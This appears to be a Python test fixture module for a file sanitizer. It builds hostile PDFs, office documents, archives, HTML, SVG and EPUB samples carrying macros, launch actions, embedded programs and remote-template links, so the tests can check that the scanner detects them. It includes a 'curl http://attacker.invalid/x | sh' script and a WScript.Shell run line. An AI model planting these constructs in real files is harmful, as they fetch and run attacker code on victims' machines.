"""Hostile samples for the `keep` matrix (issue 19): files that carry programs, scripts, macro
documents and OLE objects inside them (PDF attachments, embedded office packages and OLE
objects, OpenDocument objects, archive members) and references that load a document able to
run code (remote templates, OLE links, frames, floating frames). Each one's active content is
found by `active_scan.active_content` before it is sanitized: the tests check that first."""

from __future__ import annotations

import io
import struct
import zipfile
from pathlib import Path

import pikepdf
from pikepdf import Array, Dictionary, Name, String

from tests.engine.cfb_office import write_cfb
from tests.engine.corpus import clean_pdf
from tests.engine.corpus_office import ODF_NS, ODT, R, docx, hostile_docm, odf

EXE = (b"MZ\x90\x00\x03" + b"\x00" * 59
       + b"\x0e\x1f\xba\x0e\x00This program cannot be run in DOS mode")
ELF = b"\x7fELF\x02\x01\x01" + b"\x00" * 57
MACHO = b"\xcf\xfa\xed\xfe\x07\x00\x00\x01" + b"\x00" * 56
SCRIPT = b"#!/bin/sh\ncurl http://attacker.invalid/x | sh\n"
JS_FILE = b'var s = new ActiveXObject("WScript.Shell"); s.Run("calc");\n'
EVIL = "https://attacker.invalid"


def _save(pdf: pikepdf.Pdf) -> bytes:
    buffer = io.BytesIO()
    pdf.save(buffer)
    return buffer.getvalue()


def _attach(pdf: pikepdf.Pdf, name: str, data: bytes, **extra: pikepdf.Object) -> Dictionary:
    stream = pikepdf.Stream(pdf, data)
    stream.Type = Name.EmbeddedFile
    files = Dictionary(F=stream, **extra)
    return pdf.make_indirect(Dictionary(Type=Name.Filespec, F=String(name), UF=String(name),
                                        EF=files))


def script_pdf(attachments: dict[str, bytes] | None = None) -> bytes:
    """A PDF whose open action is JavaScript, with a Launch link, a JavaScript name tree and
    (optionally) attachments of its own."""
    pdf = clean_pdf(pages=1, with_image=False)
    pdf.Root.OpenAction = pdf.make_indirect(Dictionary(
        Type=Name.Action, S=Name.JavaScript, JS=String("app.launchURL('" + EVIL + "')")))
    pdf.pages[0].obj.Annots = Array([pdf.make_indirect(Dictionary(
        Type=Name.Annot, Subtype=Name.Link, Rect=Array([72, 72, 200, 90]),
        A=Dictionary(S=Name.Launch, F=String("cmd.exe"))))])
    names = Dictionary(JavaScript=Dictionary(Names=Array([String("x"), Dictionary(
        S=Name.JavaScript, JS=String("app.alert(1)"))])))
    if attachments:
        pairs = Array()
        for name, data in attachments.items():
            pairs.extend([String(name), _attach(pdf, name, data)])
        names.EmbeddedFiles = Dictionary(Names=pairs)
    pdf.Root.Names = names
    return _save(pdf)


def zip_bytes(members: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in members.items():
            zf.writestr(name, data)
    return buffer.getvalue()


def ole_with_macro() -> bytes:
    """An OLE compound file with a VBA project and an OLE package wrapping a program."""
    from tests.engine.cfb_office import AUTO_MACRO, vba_project
    from tests.engine.corpus_office import _package_native

    native = _package_native("invoice.exe", EXE)
    streams = vba_project({"ThisDocument": AUTO_MACRO}, prefix="Macros/")
    streams["\x01Ole10Native"] = struct.pack("<I", len(native)) + native
    return write_cfb(streams)


def attachments_pdf() -> bytes:
    """Attachments of every hostile kind: in the names tree, a file attachment annotation, the
    catalog's associated files (/AF), a platform variant (/DOS) beside clean contents and a
    stream nothing lists."""
    pdf = pikepdf.open(io.BytesIO(script_pdf()))
    inner_zip = zip_bytes({"invoice.exe": EXE, "macro.docm": hostile_docm(),
                           "nested.zip": zip_bytes({"tool": ELF, "run.sh": SCRIPT})})
    listed = {"invoice.exe": EXE, "evil.pdf": script_pdf({"run.sh": SCRIPT, "a.exe": EXE}),
              "macro.docm": hostile_docm(), "bundle.zip": inner_zip, "dropper.js": JS_FILE,
              "object.bin": ole_with_macro()}
    pairs = Array()
    for name, data in listed.items():
        pairs.extend([String(name), _attach(pdf, name, data)])
    pdf.Root.Names.EmbeddedFiles = Dictionary(Names=pairs)
    variant = pikepdf.Stream(pdf, EXE)
    pairs.extend([String("notes.txt"), _attach(pdf, "notes.txt", b"plain notes\n", DOS=variant)])
    pdf.Root.AF = Array([_attach(pdf, "macho", MACHO)])
    page = pdf.pages[0].obj
    page.Annots.append(pdf.make_indirect(Dictionary(
        Type=Name.Annot, Subtype=Name.FileAttachment, Rect=Array([300, 72, 320, 92]),
        FS=_attach(pdf, "tool", ELF))))
    orphan = pikepdf.Stream(pdf, SCRIPT)
    orphan.Type = Name.EmbeddedFile
    page.Orphan = pdf.make_indirect(orphan)
    return _save(pdf)


def embedding_docx() -> bytes:
    """A macro document embedded as a package, an OLE object holding VBA and a program, a
    remote macro template, an OLE link, a frame and a subdocument at web addresses."""
    def obj(shape: int, rid: str, prog: str, kind: str = "Embed") -> str:
        return (f'<w:p><w:r><w:object><v:shape id="_x0000_i{shape}" style="width:72pt;height:'
                f'36pt"><v:imagedata r:id="rIdImg" o:title=""/></v:shape><o:OLEObject Type='
                f'"{kind}" ProgID="{prog}" ShapeID="_x0000_i{shape}" DrawAspect="Content" '
                f'ObjectID="_{shape}" r:id="{rid}"/></w:object></w:r></w:p>')

    settings = ('<?xml version="1.0" encoding="UTF-8"?><w:settings xmlns:w="http://schemas.'
                'openxmlformats.org/wordprocessingml/2006/main" xmlns:r="http://schemas.'
                'openxmlformats.org/officeDocument/2006/relationships"><w:attachedTemplate '
                'r:id="rIdTpl"/></w:settings>')
    body = (obj(1, "rIdPkg", "Word.Document.12") + obj(2, "rIdOle", "Package")
            + obj(3, "rIdLink", "htmlfile", "Link")
            + '<w:p><w:subDoc r:id="rIdSub"/></w:p><w:p><w:r><w:t>Body</w:t></w:r></w:p>')
    ooxml = "application/vnd.openxmlformats-officedocument"
    return docx(body, settings=settings,
                doc_rels=[("rIdPkg", f"{R}/package", "embeddings/Macro.docm"),
                          ("rIdOle", f"{R}/oleObject", "embeddings/oleObject1.bin"),
                          ("rIdLink", f"{R}/oleObject", f"{EVIL}/payload.hta", "External"),
                          ("rIdSub", f"{R}/subDocument", f"{EVIL}/sub.docm", "External"),
                          ("rIdPic", f"{R}/image", f"{EVIL}/pixel.png", "External")],
                parts={"word/embeddings/Macro.docm": hostile_docm(),
                       "word/embeddings/oleObject1.bin": ole_with_macro(),
                       "word/_rels/settings.xml.rels": _settings_rels()},
                overrides={"/word/embeddings/Macro.docm": "application/vnd.ms-word.document."
                           "macroEnabled.12",
                           "/word/embeddings/oleObject1.bin": f"{ooxml}.oleObject"})


def _settings_rels() -> str:
    from tests.engine.corpus_office import _rels

    return _rels([("rIdTpl", f"{R}/attachedTemplate", f"{EVIL}/template.dotm", "External")])


def embedding_odt() -> bytes:
    """An OLE object holding VBA and a program, an embedded text document with Basic macros
    and an event listener, an applet, a floating frame and an object linked from a web
    address."""
    body = ('<office:text><text:p>Objects'
            '<draw:frame draw:name="Ole" svg:width="2cm" svg:height="2cm"><draw:object-ole '
            'xlink:href="./Object 1" xlink:type="simple"/></draw:frame>'
            '<draw:frame draw:name="Doc" svg:width="2cm" svg:height="2cm"><draw:object '
            'xlink:href="./Object 2" xlink:type="simple" xlink:show="embed" '
            'xlink:actuate="onLoad"/></draw:frame>'
            '<draw:frame draw:name="App" svg:width="2cm" svg:height="2cm"><draw:applet '
            'draw:code="Evil.class"/></draw:frame>'
            '<draw:frame draw:name="Web" svg:width="2cm" svg:height="2cm"><draw:floating-frame '
            f'xlink:href="{EVIL}/frame.odt" xlink:type="simple"/></draw:frame>'
            '<draw:frame draw:name="Linked" svg:width="2cm" svg:height="2cm"><draw:object '
            f'xlink:href="{EVIL}/object.odt" xlink:type="simple"/></draw:frame>'
            '</text:p></office:text>')
    script = ('<office:scripts><office:event-listeners><script:event-listener '
              'script:language="ooo:script" script:event-name="dom:load" xlink:href="vnd.sun.'
              'star.script:Standard.Module1.Main?language=Basic&amp;location=document"/>'
              '</office:event-listeners></office:scripts>')
    inner = (f'<?xml version="1.0" encoding="UTF-8"?><office:document-content {ODF_NS}>'
             f'{script}<office:body><office:text><text:p>EMBEDDED-TEXT</text:p></office:text>'
             '</office:body></office:document-content>')
    module = ('<?xml version="1.0" encoding="UTF-8"?><script:module xmlns:script="http://'
              'openoffice.org/2000/script" script:name="Module1" script:language="StarBasic">'
              'Sub Main\n Shell("calc")\nEnd Sub</script:module>')
    return odf(ODT, body, files={
        "Object 1": ole_with_macro(), "Object 2/content.xml": inner,
        "Object 2/Basic/Standard/Module1.xml": module,
        "Basic/Standard/Module1.xml": module},
        manifest_extra={"Object 1": "application/vnd.sun.star.oleobject", "Object 2/": ODT,
                        "Object 2/content.xml": "text/xml",
                        "Object 2/Basic/Standard/Module1.xml": "text/xml",
                        "Basic/Standard/Module1.xml": "text/xml"})


def bundle_zip() -> bytes:
    """Programs, scripts, a macro document, a scripted PDF with attachments and an archive
    inside the archive."""
    return zip_bytes({
        "invoice.exe": EXE, "tool": ELF, "run.sh": SCRIPT, "macro.docm": hostile_docm(),
        "evil.pdf": script_pdf({"a.exe": EXE, "macro.docm": hostile_docm()}),
        "object.bin": ole_with_macro(), "docs/embedding.docx": embedding_docx(),
        "inner.zip": zip_bytes({"payload.exe": EXE, "macro.docm": hostile_docm()}),
        "readme.txt": b"hello\n"})


HTML = (f"<!DOCTYPE html><html><head><title>t</title><script src='{EVIL}/x.js'></script>"
        f"<link rel='stylesheet' href='{EVIL}/site.css'></head><body onload='run()'>"
        f"<p>Visible</p><img src='{EVIL}/pixel.png' onerror='steal()' alt='p'>"
        f"<a href='javascript:steal()'>x</a><iframe src='{EVIL}/frame.html'></iframe>"
        f"<object data='{EVIL}/x.swf'></object><embed src='{EVIL}/y.swf'>"
        "<form action='https://attacker.invalid/post'><input name='q'></form>"
        "<script>document.write('EVIL')</script></body></html>").encode()
SVG = (f'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" '
       f'width="20" height="20" onload="run()"><script>alert(1)</script>'
       f'<image xlink:href="{EVIL}/remote.png" width="5" height="5"/>'
       '<a xlink:href="javascript:alert(1)"><rect width="10" height="10"/></a>'
       '<foreignObject width="5" height="5"><iframe xmlns="http://www.w3.org/1999/xhtml" '
       f'src="{EVIL}/f.html"/></foreignObject></svg>').encode()


def hostile_epub() -> bytes:
    from tests.engine.samples import epub_bytes, xhtml

    chapter = xhtml(f"<p onclick='run()'>Chapter</p><script>alert(1)</script>"
                    f"<img src='{EVIL}/pixel.png' alt='p'/><iframe src='{EVIL}/f.html'/>",
                    head=f"<script src='{EVIL}/x.js'></script>")
    return epub_bytes({"ch1.xhtml": chapter, "run.sh": SCRIPT.decode()},
                      [("ch1", "ch1.xhtml", "application/xhtml+xml", "scripted remote-resources"),
                       ("sh", "run.sh", "application/x-sh", "")], ["ch1"])


def write_all(folder: Path) -> dict[str, Path]:
    from tests.engine.corpus import hostile_pdf
    from tests.engine.corpus_office import hostile_odt, hostile_xlsm

    samples = {"attachments.pdf": attachments_pdf(), "script.pdf": script_pdf(),
               "hostile.pdf": _save(hostile_pdf()),
               "embedding.docx": embedding_docx(), "macro.docm": hostile_docm(),
               "macro.xlsm": hostile_xlsm(), "macro.odt": hostile_odt(),
               "embedding.odt": embedding_odt(), "bundle.zip": bundle_zip(),
               "page.html": HTML, "image.svg": SVG, "book.epub": hostile_epub()}
    out = {}
    for name, data in samples.items():
        out[name] = folder / name
        out[name].write_bytes(data)
    return out
